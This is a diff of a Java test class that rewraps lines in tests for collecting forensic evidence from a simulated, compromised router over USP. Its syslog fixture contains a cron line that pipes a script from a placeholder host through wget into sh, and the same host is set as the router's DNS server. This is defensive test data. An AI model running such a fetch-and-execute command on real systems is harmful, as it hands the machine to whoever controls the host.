@@ -52,7 +52,8 @@ class UspEvidenceTest {
     private static final Duration SOON = Duration.ofSeconds(60);
     private static final Actor ANA = new Actor("ana", "analyst");
     private static final String REASON = "Ticket SEC-12: the router's DNS server changed";
-    private static final byte[] SYSLOG = ("Dec  7 03:01:12 hs-box dropbear[812]: Password auth succeeded for 'support'\n"
+    private static final byte[] SYSLOG = (
+            "Dec  7 03:01:12 hs-box dropbear[812]: Password auth succeeded for 'support'\n"
             + "Dec  7 03:01:40 hs-box crond[901]: (root) CMD (wget -q -O- http://203.0.113.66/x.sh | sh)\n")
             .getBytes(StandardCharsets.UTF_8);
 
@@ -74,7 +75,8 @@ class UspEvidenceTest {
     @BeforeEach
     void uspRouter() throws Exception {
         String endpointId = UspTestSettings.agentEndpointId();
-        agent = new UspTestAgent(config.brokerUrl(), endpointId, config.agentTopic().replace("{endpointId}", endpointId),
+        agent = new UspTestAgent(config.brokerUrl(), endpointId,
+                config.agentTopic().replace("{endpointId}", endpointId),
                 config.controllerEndpointId(), config.controllerTopic());
         agent.model().put(AgentDataModel.DNS_SERVERS, Map.of("Enable", "true", "DNSServer", "203.0.113.66",
                 "Interface", "Device.IP.Interface.1", "Status", "Enabled", "Type", "Static"));
@@ -92,7 +94,8 @@ class UspEvidenceTest {
     void stopAgent() throws Exception {
         assertEquals(List.of(), agent.violations());
         agent.close();
-        QuarkusTransaction.requiringNew().run(() -> Router.<Router>findById(home.routerId()).channel = ManagementChannel.SIMULATED);
+        QuarkusTransaction.requiringNew().run(()
+                -> Router.<Router>findById(home.routerId()).channel = ManagementChannel.SIMULATED);
     }
 
     @Test
@@ -120,11 +123,14 @@ class UspEvidenceTest {
         assertTrue(topLevel.getFirstLevelOnly(), "the top-level objects, not the whole schema");
         List<String> read = agent.requests(MsgType.GET).stream().flatMap(m -> m.getBody().getRequest().getGet()
                 .getParamPathsList().stream()).toList();
-        assertTrue(read.containsAll(List.of("Device.DeviceInfo.", "Device.Hosts.", "Device.DNS.", "Device.LocalAgent.")),
+        assertTrue(read.containsAll(List.of("Device.DeviceInfo.", "Device.Hosts.", "Device.DNS.",
+                "Device.LocalAgent.")),
                 "one Get per top-level object: " + read);
-        List<Operate> commands = agent.requests(MsgType.OPERATE).stream().map(m -> m.getBody().getRequest().getOperate())
+        List<Operate> commands = agent.requests(MsgType.OPERATE).stream().map(m
+                -> m.getBody().getRequest().getOperate())
                 .toList();
-        assertEquals(List.of("Device.DeviceInfo.VendorLogFile.1.Upload()"), commands.stream().map(Operate::getCommand).toList(),
+        assertEquals(List.of("Device.DeviceInfo.VendorLogFile.1.Upload()"),
+                commands.stream().map(Operate::getCommand).toList(),
                 "collecting evidence runs no other command");
         assertTrue(commands.get(0).getInputArgsOrThrow("URL").contains("/ingest/v1/evidence-uploads/"));
         assertEquals(List.of(204), agent.uploadStatuses());
@@ -142,7 +148,8 @@ class UspEvidenceTest {
         assertEquals("1.4.2", document.parameters().get("Device.DeviceInfo.SoftwareVersion"));
         assertTrue(document.files().isEmpty());
         assertEquals("Vendor log file kernlog: the router's upload of " + huge.length + " bytes was refused, it exceeds"
-                + " the upload limit of " + forensicsConfig.uploadMaxBytes() + " bytes.", document.notCollected().get(0));
+                + " the upload limit of " + forensicsConfig.uploadMaxBytes() + " bytes.",
+                        document.notCollected().get(0));
         assertEquals(List.of(413), agent.uploadStatuses());
     }
 
@@ -154,7 +161,8 @@ class UspEvidenceTest {
                 .call(() -> EvidenceSnapshot.<EvidenceSnapshot>find("actionId", action).firstResult());
         assertEquals(ManagementChannel.USP.name(), snapshot.channel);
         assertTrue(QuarkusTransaction.requiringNew().call(() -> AuditEntry.<AuditEntry>list("action",
-                "fleet.evidence-stored").stream().anyMatch(e -> e.reason != null && e.reason.contains(snapshot.sha256))),
+                "fleet.evidence-stored").stream().anyMatch(e -> e.reason != null
+                        && e.reason.contains(snapshot.sha256))),
                 "the snapshot's hash is in the audit log");
         return QuarkusTransaction.requiringNew().call(() -> forensics.document(snapshot));
     }
